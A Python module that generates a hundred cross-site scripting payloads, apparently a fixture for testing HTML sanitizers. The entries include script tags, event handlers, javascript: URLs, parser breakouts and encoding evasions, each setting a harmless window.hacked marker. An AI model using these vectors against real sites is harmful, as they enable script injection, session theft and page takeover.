"""A hundred texts that run as script wherever a page takes text for markup; each sets window.hacked."""

RUN = "window.hacked=1"

ELEMENTS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"<script type=module>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<IMG SRC=x ONERROR='{RUN}'>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={RUN} attributeName=x>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>",
    f"<math href=javascript:{RUN}>x</math>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<video src=x onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<a href=javascript:{RUN} id=go>x</a>",
    f"<a href='java\tscript:{RUN}'>x</a>",
    f"<form action=javascript:{RUN}><button autofocus>x</button></form>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<link rel=stylesheet href=data:text/css,x onload={RUN}>",
    f"<style onload={RUN}>x{{}}</style>",
    f"<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart={RUN}>x</p>",
    f"<base href=javascript:{RUN}//>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\ufeff<script>{RUN}</script>",
    f"<\u017fcript>{RUN}</\u017fcript>",
    f"\u202e<script>{RUN}</script>",
]

CLOSERS = ["", "\">", "'>", "</title>", "</textarea>", "</mark></a></h3>", "--></script>"]

IN_PLACE = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"java\nscript:{RUN}",
    f"data:text/html,<script>opener.{RUN}</script>",
    f"vbscript:{RUN}",
    f"\" onmouseover=\"{RUN}",
    f"' onfocus='{RUN}' autofocus='",
    f"\" autofocus onfocus=\"{RUN}",
    f"x onerror={RUN}",
    f"\";{RUN};//",
    f"';{RUN};//",
    f"${{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"`;{RUN};`",
    f"</script><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"%3Cscript%3E{RUN}%3C/script%3E",
]


def payloads():
    """One hundred different ones."""
    texts = IN_PLACE + ELEMENTS
    for number, element in enumerate(ELEMENTS):
        texts.append(CLOSERS[1 + number % (len(CLOSERS) - 1)] + element)
    return texts[:100]
